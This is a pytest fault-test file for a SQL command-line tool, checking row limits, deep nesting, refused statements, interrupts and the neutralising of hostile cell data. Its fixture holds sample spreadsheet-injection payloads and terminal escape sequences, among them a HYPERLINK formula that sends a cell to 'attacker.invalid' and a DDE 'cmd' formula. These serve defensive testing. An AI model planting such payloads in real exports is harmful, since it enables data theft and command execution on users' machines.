"""Red-team faults of `layoffs-ai sql`: absurd --max-rows, deep nesting, odd statements, huge results, hostile data."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import resource
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import duckdb
import pytest

from tests.support.sql_warehouse import REPO, build_warehouse, run_cli, wh  # noqa: F401

pytestmark = pytest.mark.fault

CLI = [sys.executable, "-m", "sqlcli.main"]
ESC, BEL, CSI8 = "\x1b", "\x07", "\x9b"
# Invented hostile cells: spreadsheet formulas and terminal control sequences.
HOSTILE = [
    (1, '=HYPERLINK("http://attacker.invalid/?x="&A1,"Click me")', -5),
    (2, "+1+cmd|' /C calc'!A0", 7),
    (3, "-2+3", 0),
    (4, "@SUM(1,2)", 1),
    (5, "\tx=1", 2),
    (6, "\r=1", 3),
    (7, f"{ESC}[31mRed Herring Ltd{ESC}[0m", 4),
    (8, f"{ESC}]8;;http://attacker.invalid{BEL}Link Co{ESC}]8;;{ESC}\\", 5),
    (9, f"{ESC}]0;pwned title{BEL}Quiet Co{CSI8}2J{BEL}\b", 6),
]


@pytest.fixture()
def hostile(tmp_path: Path) -> Path:
    path = build_warehouse(tmp_path / "warehouse.duckdb")
    con = duckdb.connect(str(path))
    con.execute("CREATE TABLE marts.hostile (id INTEGER, name VARCHAR, amount INTEGER)")
    con.executemany("INSERT INTO marts.hostile VALUES (?, ?, ?)", HOSTILE)
    con.close()
    return path


def one_line(proc: subprocess.CompletedProcess) -> str:
    """The single stderr line of a failed run; fails on a traceback or more than one line."""
    assert "Traceback" not in proc.stderr, proc.stderr[-2000:]
    assert proc.stderr.count("\n") == 1 and proc.stderr.endswith("\n"), proc.stderr[-2000:]
    return proc.stderr.rstrip("\n")


def run_raw(*args: str) -> subprocess.CompletedProcess:
    """Run the CLI into a pipe; stdout decoded without newline translation (a \\r in a cell stays a \\r)."""
    proc = subprocess.run(CLI + list(args), cwd=REPO, env={**os.environ, "PYTHONPATH": str(REPO)},
                          capture_output=True, timeout=60)
    return subprocess.CompletedProcess(proc.args, proc.returncode, proc.stdout.decode(), proc.stderr.decode())


def run_in_terminal(*args: str) -> tuple[int, str, str]:
    """Run the CLI with stdout on a pseudo-terminal; (exit code, what the terminal received, stderr)."""
    master, slave = pty.openpty()
    proc = subprocess.Popen(CLI + list(args), cwd=REPO, env={**os.environ, "PYTHONPATH": str(REPO)},
                            stdin=subprocess.DEVNULL, stdout=slave, stderr=subprocess.PIPE)
    os.close(slave)
    received = []
    while True:
        try:
            data = os.read(master, 65536)
        except OSError:  # EIO: the child closed the terminal
            break
        if not data:
            break
        received.append(data)
    os.close(master)
    stderr = proc.stderr.read().decode()
    proc.wait(timeout=60)
    return proc.returncode, b"".join(received).decode().replace("\r\n", "\n"), stderr


def run_measured(*args: str, address_space: int = 8 << 30) -> tuple[int, bytes, str, int]:
    """Run the CLI; (exit code, stdout, stderr, peak RSS in bytes of that process alone).

    The address-space limit only keeps a regression from eating the machine; the assertion is on the RSS.
    """
    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (address_space, address_space))

    proc = subprocess.Popen(CLI + list(args), cwd=REPO, env={**os.environ, "PYTHONPATH": str(REPO)},
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, preexec_fn=limit)
    out, err = [], []
    readers = [threading.Thread(target=lambda s=s, b=b: b.append(s.read())) for s, b in
               ((proc.stdout, out), (proc.stderr, err))]
    for reader in readers:
        reader.start()
    killer = threading.Timer(300, proc.kill)
    killer.start()
    _, status, usage = os.wait4(proc.pid, 0)
    killer.cancel()
    for reader in readers:
        reader.join()
    return os.waitstatus_to_exitcode(status), out[0], err[0].decode(), usage.ru_maxrss * 1024


# ------------------------------------------------------------------ --max-rows


@pytest.mark.parametrize("value", ["99999999999999999999999", "-1", "1e3", "lots"])
def test_absurd_max_rows_is_one_usage_line(wh, value):
    proc = run_cli("sql", "SELECT 1", "--warehouse", str(wh), "--max-rows", value)
    assert proc.returncode == 2 and "Traceback" not in proc.stderr
    assert proc.stderr.splitlines()[-1].startswith("layoffs-ai sql: error: argument --max-rows: --max-rows must be")


def test_csv_and_json_stop_at_10000_rows_by_default_and_say_so(wh):
    for fmt, count in (("csv", lambda out: len(out.splitlines()) - 1), ("json", lambda out: len(json.loads(out)))):
        proc = run_cli("sql", "SELECT * FROM range(10001)", "--warehouse", str(wh), "--format", fmt)
        assert proc.returncode == 0, proc.stderr
        assert count(proc.stdout) == 10_000
        assert proc.stderr == "(showing the first 10,000 rows; use --max-rows N for more)\n"


def test_json_of_30_million_rows_keeps_memory_small(wh):
    code, out, err, peak = run_measured("sql", "SELECT * FROM range(30000000)", "--format", "json", "--warehouse", str(wh))
    assert code == 0, err[-2000:]
    rows = json.loads(out)
    assert len(rows) == 10_000 and rows[-1] == {"range": 9999}
    assert err == "(showing the first 10,000 rows; use --max-rows N for more)\n"
    assert peak < 512 << 20, f"peak RSS {peak >> 20} MiB"


@pytest.mark.parametrize("fmt", ["json", "table", "markdown"])
def test_unlimited_rows_are_refused_outside_csv(wh, fmt):
    proc = run_cli("sql", "SELECT * FROM range(3)", "--warehouse", str(wh), "--format", fmt, "--max-rows", "0")
    assert proc.returncode == 2 and proc.stdout == ""
    assert one_line(proc).startswith("--max-rows 0 (no limit) is only allowed with --format csv")


def test_unlimited_csv_is_refused_on_a_terminal_and_allowed_into_a_pipe(wh):
    code, shown, err = run_in_terminal("sql", "SELECT * FROM range(3)", "--warehouse", str(wh), "--format", "csv",
                                       "--max-rows", "0")
    assert code == 2 and shown == ""
    assert err.startswith("--max-rows 0 (no limit) is only allowed when stdout goes to a file or pipe")
    proc = run_cli("sql", "SELECT * FROM range(10005)", "--warehouse", str(wh), "--format", "csv", "--max-rows", "0")
    assert proc.returncode == 0 and proc.stderr == ""
    assert proc.stdout.splitlines() == ["range"] + [str(i) for i in range(10005)]


# ------------------------------------------------------------------ one line, never a traceback


def test_400_nested_subqueries_give_one_line(wh):
    sql = "SELECT " + "(SELECT " * 400 + "1" + ")" * 400
    proc = run_cli("sql", "-", "--warehouse", str(wh), stdin=sql)
    assert proc.returncode == 1 and proc.stdout == ""
    assert "depth" in one_line(proc)


def test_deep_but_valid_query_and_deep_result_still_run(wh):
    proc = run_cli("sql", "-", "--warehouse", str(wh), "--format", "csv", stdin="SELECT " + "+".join(["1"] * 900) + " AS n")
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout == "n\n900\n"
    nested = "[" * 900 + "1" + "]" * 900
    proc = run_cli("sql", f"SELECT {nested} AS l", "--warehouse", str(wh), "--format", "csv")
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout == f"l\n{nested}\n"


def test_python_conversion_error_is_one_line(wh):
    proc = run_cli("sql", "SELECT INTERVAL 100000000 YEAR AS forever", "--warehouse", str(wh))
    assert proc.returncode == 1 and proc.stdout == ""
    assert one_line(proc).startswith("error: OverflowError: ")


def _default_sigint() -> None:
    """Ctrl-C as a terminal delivers it: a shell's background job (e.g. `make test &`) ignores SIGINT, and a
    child inherits that, so without this the command would never see the signal the test sends."""
    signal.signal(signal.SIGINT, signal.SIG_DFL)


# `python -m sqlcli.main`, announcing on stderr when the query's connection is open and watched for Ctrl-C: the
# command's own readiness line, so the test signals a running query without polling /proc or sleeping.
ANNOUNCING_CLI = [sys.executable, "-c", (
    "import contextlib, runpy, sys\n"
    "from sqlcli.interrupts import Interrupts\n"
    "watch = Interrupts.watch\n"
    "@contextlib.contextmanager\n"
    "def announced(self, con):\n"
    "    with watch(self, con) as watched:\n"
    "        print('ready', file=sys.stderr, flush=True)\n"
    "        yield watched\n"
    "Interrupts.watch = announced\n"
    "sys.argv[0] = 'sqlcli.main'\n"
    "runpy.run_module('sqlcli.main', run_name='__main__', alter_sys=True)\n")]


def test_ctrl_c_during_a_query_exits_130_with_one_line(wh):
    sql = "SELECT sum(hash(a.range + b.range)) AS s FROM range(1000000) a, range(1000000) b"
    proc = subprocess.Popen(ANNOUNCING_CLI + ["sql", sql, "--warehouse", str(wh)], cwd=REPO, text=True,
                            env={**os.environ, "PYTHONPATH": str(REPO)}, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            preexec_fn=_default_sigint)
    try:
        assert proc.stderr.readline() == "ready\n"  # the warehouse is open and the query starts
        proc.send_signal(signal.SIGINT)
        out, err = proc.communicate(timeout=120)
    finally:
        proc.kill()
    assert (proc.returncode, out, err) == (130, "", "interrupted\n")


def test_ctrl_c_exits_within_seconds_even_when_duckdb_does_not_stop():
    """The last resort: a query that ignores interrupt() and a Ctrl-C that never reaches Python code still end
    the (read-only) command within FORCE_EXIT_AFTER seconds, with one line."""
    code = ("import signal, time\n"
            "from sqlcli.interrupts import Interrupts\n"
            "class Stuck:\n"
            "    def interrupt(self): pass\n"
            "with Interrupts() as interrupts, interrupts.watch(Stuck()):\n"
            "    signal.signal(signal.SIGINT, lambda *a: None)  # the KeyboardInterrupt never comes\n"
            "    print('ready', flush=True)\n"
            "    time.sleep(120)\n")
    proc = subprocess.Popen([sys.executable, "-c", code], cwd=REPO, text=True, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, preexec_fn=_default_sigint)
    try:
        assert proc.stdout.readline() == "ready\n"
        sent = time.monotonic()
        proc.send_signal(signal.SIGINT)
        out, err = proc.communicate(timeout=60)
        took = time.monotonic() - sent
    finally:
        proc.kill()
    assert (proc.returncode, err) == (130, "interrupted (DuckDB did not stop in time; exiting anyway)\n")
    assert 4 < took < 30, took


def test_reader_closing_the_pipe_ends_quietly(wh):
    proc = subprocess.Popen(CLI + ["sql", "SELECT * FROM range(2000000)", "--warehouse", str(wh), "--format", "csv",
                                   "--max-rows", "0"], cwd=REPO, env={**os.environ, "PYTHONPATH": str(REPO)},
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    assert proc.stdout.readline() == "range\n"
    proc.stdout.close()  # like `| head -1`
    err = proc.stderr.read()
    assert proc.wait(timeout=120) == 0 and err == ""


# ------------------------------------------------------------------ statements and functions


@pytest.mark.parametrize("sql", ["UPDATE EXTENSIONS", "update extensions (httpfs);"])
def test_update_extensions_is_refused_by_name(wh, sql):
    proc = run_cli("sql", sql, "--warehouse", str(wh))
    assert proc.returncode == 2 and proc.stdout == ""
    assert one_line(proc).startswith("refused: UPDATE EXTENSIONS statements are not allowed — extensions cannot")


def test_pg_timezone_names_is_callable(wh):
    proc = run_cli("sql", "SELECT count(*) > 0 AS ok FROM pg_timezone_names() WHERE name = 'UTC'",
                   "--warehouse", str(wh), "--format", "csv")
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout == "ok\ntrue\n"


# ------------------------------------------------------------------ hostile data


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_safe_csv_quotes_formula_cells(hostile):
    proc = run_raw("sql", "SELECT name, amount FROM marts.hostile WHERE id <= 6 ORDER BY id",
                   "--warehouse", str(hostile), "--format", "csv", "--safe-csv")
    assert proc.returncode == 0, proc.stderr
    assert _cells(proc.stdout) == [["name", "amount"]] + [["'" + name, str(amount)] for _, name, amount in HOSTILE[:6]]


def test_csv_is_formula_safe_on_a_terminal_and_exact_into_a_pipe(hostile):
    sql = "SELECT name FROM marts.hostile WHERE id IN (1, 3) ORDER BY id"
    code, shown, _ = run_in_terminal("sql", sql, "--warehouse", str(hostile), "--format", "csv")
    assert code == 0
    assert _cells(shown) == [["name"], ["'" + HOSTILE[0][1]], ["'-2+3"]]
    proc = run_raw("sql", sql, "--warehouse", str(hostile), "--format", "csv")
    assert _cells(proc.stdout) == [["name"], [HOSTILE[0][1]], ["-2+3"]]
    proc = run_raw("sql", sql, "--warehouse", str(hostile), "--format", "csv", "--no-safe-csv")
    assert _cells(proc.stdout) == [["name"], [HOSTILE[0][1]], ["-2+3"]]


@pytest.mark.parametrize("fmt", ["table", "markdown"])
def test_terminal_never_receives_control_sequences(hostile, fmt):
    sql = "SELECT id, name AS \"\x1b[2Jname\" FROM marts.hostile WHERE id >= 7 ORDER BY id"
    code, shown, err = run_in_terminal("sql", sql, "--warehouse", str(hostile), "--format", fmt)
    assert code == 0, err
    assert not any(ch in shown for ch in (ESC, BEL, CSI8, "\b")), repr(shown)
    expected = {
        "table": ["id | name", "---+----------------", " 7 | Red Herring Ltd", " 8 | Link Co", " 9 | Quiet Co",
                  "(3 rows)"],
        "markdown": ["| id  | name            |", "| --: | --------------- |", "|   7 | Red Herring Ltd |",
                     "|   8 | Link Co         |", "|   9 | Quiet Co        |"],
    }
    assert shown.splitlines() == expected[fmt]


def test_json_keeps_the_data_exact(hostile):
    proc = run_cli("sql", "SELECT id, name FROM marts.hostile ORDER BY id", "--warehouse", str(hostile),
                   "--format", "json")
    assert proc.returncode == 0, proc.stderr
    assert [(r["id"], r["name"]) for r in json.loads(proc.stdout)] == [(i, name) for i, name, _ in HOSTILE]
    assert not any(ch in proc.stdout for ch in (ESC, BEL, CSI8))  # escaped as \u001b, \u0007, \u009b
